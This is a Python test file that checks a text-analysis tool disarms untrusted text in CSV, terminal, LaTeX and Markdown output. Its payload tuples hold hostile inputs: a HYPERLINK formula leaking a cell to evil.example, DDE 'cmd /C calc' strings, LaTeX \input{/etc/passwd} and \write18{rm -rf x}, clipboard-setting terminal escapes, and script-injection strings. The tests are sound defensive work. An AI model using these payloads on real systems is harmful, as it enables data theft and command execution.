"""Texts that would be a program elsewhere: in a spreadsheet, a terminal, LaTeX, Markdown."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from slant.analysis.rows import spreadsheet_row
from slant.annotate.sheets import read_sheet, sheet_bytes
from slant.cli import show
from slant.data.formulas import SIGNS, disarmed, rearmed
from slant.errors import DataError
from slant.report.escaping import latex_escaped, markdown_escaped, one_line, visible
from slant.report.formats import table_csv, table_latex, table_markdown
from slant.report.tables import Cell, Row, Table

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
    "@SUM(1)", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://a\")",
)  # fmt: skip
ESCAPES = (
    "\x1b[2J", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1bP1$q\x1b\\", "\x9b2J", "\x9d0;t\x9c",
    "a\rb", "a\bb", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x00", "\x7f", "\x0e",
)  # fmt: skip
"""What clears a screen, sets its title or the clipboard, hides what stood before."""
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
LATEX = (
    r"\input{/etc/passwd}", r"\immediate\write18{rm -rf x}", r"\include{a}", r"\openin5=/etc/passwd",
    r"\catcode`\%=12", "$$", "{", "}", "%", r"\end{document}", r"\def\x{\x}\x", "^^5cinput", "~", "\\",
    r"\verb|x|", "\\\\[1ex]", "[1ex]", "*",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "![x](http://evil.example/p.png)", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "`x`", "| a | b |", "# head", "&lt;b&gt;", "<http://evil.example>",
    "[x]: javascript:alert(1)", "</td></table>", "~~x~~", "$x$",
)  # fmt: skip


def made_table(text):
    return Table("t", text, (text, "F1"), (Row((Cell(text, note=text), Cell(0.5))),), notes=(text,))


def is_armed(cell):
    return cell.startswith(SIGNS)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_report_begins_as_a_formula(text):
    for row in csv.reader(io.StringIO(table_csv(made_table(text)))):
        assert not any(is_armed(cell) for cell in row), row


def test_numbers_of_a_report_stay_numbers():
    table = Table("t", "T", ("name", "difference"), (Row((Cell("a"), Cell(-0.25, "points"))),))
    assert table_csv(table).splitlines()[1] == "a,-0.25"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_an_analysis_begins_as_a_formula(text):
    row = spreadsheet_row({"text": text, "title": text, "outlet": text, "p": -0.5})
    assert not any(is_armed(row[name]) for name in ("text", "title", "outlet"))
    assert row["p"] == -0.5


@pytest.mark.parametrize("text", FORMULAS)
def test_sheets_for_people_come_back_as_they_were_given(tmp_path, text):
    data = sheet_bytes(["id", "text"], [{"id": text, "text": text}])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert not any(is_armed(cell) for row in rows for cell in row)
    (tmp_path / "a.csv").write_bytes(data)
    ((_, found),) = read_sheet(tmp_path / "a.csv", ["id", "text"])
    assert found["text"].strip() == text.strip()


@pytest.mark.parametrize("text", FORMULAS)
def test_sheets_for_judging_begin_with_no_formula(tmp_path, text):
    from slant.runs.judgesheets import SheetRow, write_sheet

    write_sheet([SheetRow("k", "i", "c", text, 1, text, text, {})], tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        assert not any(is_armed(cell) for row in csv.reader(file) for cell in row)


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "", "'quoted", "'=a"])
def test_what_was_disarmed_can_be_had_back(text):
    assert not is_armed(disarmed(text))
    if not text.startswith("'"):
        assert rearmed(disarmed(text)) == text


@pytest.mark.parametrize("text", ESCAPES)
def test_a_terminal_obeys_nothing_that_a_text_holds(capsys, text):
    show.table(["name"], [[text]], title=text)
    show.say(text)
    show.line(text)
    show.document({"text": text, text: [text]})
    out, err = capsys.readouterr()
    assert not OBEYED.search(out + err), (out, err)


@pytest.mark.parametrize("text", [*ESCAPES, "[bold red]", "[/b]", "[link=http://evil.example]x", "\\[b]"])  # fmt: skip
def test_a_table_in_a_terminal_shows_marks_and_signs_as_text(monkeypatch, capsys, text):
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.setenv("TERM", "dumb")
    show.table(["name"], [[text]], title=text)
    out = capsys.readouterr().out
    assert not OBEYED.search(out)
    assert one_line(visible(text)).split()[0] in out or text.strip() == ""


@pytest.mark.parametrize("text", ["\x1b[2J", "a\x9bb", "\ud800", "\u202ex"])
def test_a_json_document_says_what_it_was_given_and_is_written_whole(capsys, text):
    show.document({"text": text})
    assert json.loads(capsys.readouterr().out) == {"text": text}


@pytest.mark.parametrize("text", ESCAPES)
def test_an_error_shows_signs_and_sends_none(capsys, text):
    from slant import cli

    with pytest.raises(SystemExit):
        cli._fail(str(DataError(f"Reading '{text}'", f"it has {text}", f"Mend {text}")), 2)
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert not OBEYED.search(err)


@pytest.mark.parametrize("text", ESCAPES)
def test_an_analysed_text_in_a_terminal_is_shown_with_its_signs(monkeypatch, capsys, text):
    from made_analysis import made_analysis

    from slant.cli.markedtexts import show_analyses

    read = made_analysis(f"Thugs {text} came. They {text} left.", article={"title": text, "outlet": text})  # fmt: skip
    show_analyses([read])
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.setenv("TERM", "dumb")
    show_analyses([read])
    out, err = capsys.readouterr()
    assert not OBEYED.search(out + err)


def test_a_file_name_with_escapes_is_told_without_them(tmp_path):
    name = "\x1b]0;owned\x07\x1b[2J.csv"
    try:
        (tmp_path / name).write_text("text\n")
    except OSError:
        pytest.xfail("this system allows no such name")
    done = subprocess.run(
        [sys.executable, "-m", "slant", "embed", "show", str(tmp_path / name)], capture_output=True,
        check=False, env={"PYTHONPATH": str(Path(show.__file__).parents[2]), "PATH": ""},
    )  # fmt: skip
    assert done.returncode == 2
    assert b"\x1b" not in done.stdout + done.stderr
    assert b"\x07" not in done.stdout + done.stderr


@pytest.mark.parametrize("text", LATEX)
def test_no_text_is_a_command_of_latex(text):
    shown = latex_escaped(text)
    own = {"textbackslash", "textasciitilde", "textasciicircum", "textless", "textgreater", "textbar",
           "textquotedbl", "pm", "times", "lambda"}  # fmt: skip
    assert set(re.findall(r"\\([a-zA-Z]+)", shown)) <= own
    for sign in "%#&_$":
        assert not re.search(rf"(?<!\\){re.escape(sign)}", shown.replace("$-$", ""))
    assert "^^" not in shown
    bare = re.sub(r"\\[{}]", "", shown)
    assert bare.count("{") == bare.count("}")
    written = table_latex(made_table(text))
    for command in ("input", "include", "write18", "immediate", "openin", "catcode", "def", "verb"):
        assert f"\\{command}" not in written
    assert written.count(r"\begin{") == written.count(r"\end{") == 2


@pytest.mark.parametrize("text", MARKDOWN)
def test_no_text_is_a_mark_of_markdown(text):
    shown = markdown_escaped(text)
    for sign in "<>[]`|":
        assert not re.search(rf"(?<!\\){re.escape(sign)}", shown), shown
    from markdown_it import MarkdownIt

    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(
        table_markdown(made_table(text))
    )  # fmt: skip
    assert not re.search(r"<(script|img|a|code|h1)\b", page), page


def test_direction_controls_do_not_turn_round_a_line():
    # "\u202e" shows what follows from right to left: the name of a file would end otherwise.
    for text in ("a\u202etxt.exe", "\u2066x", "\u202dx"):
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", one_line(text))
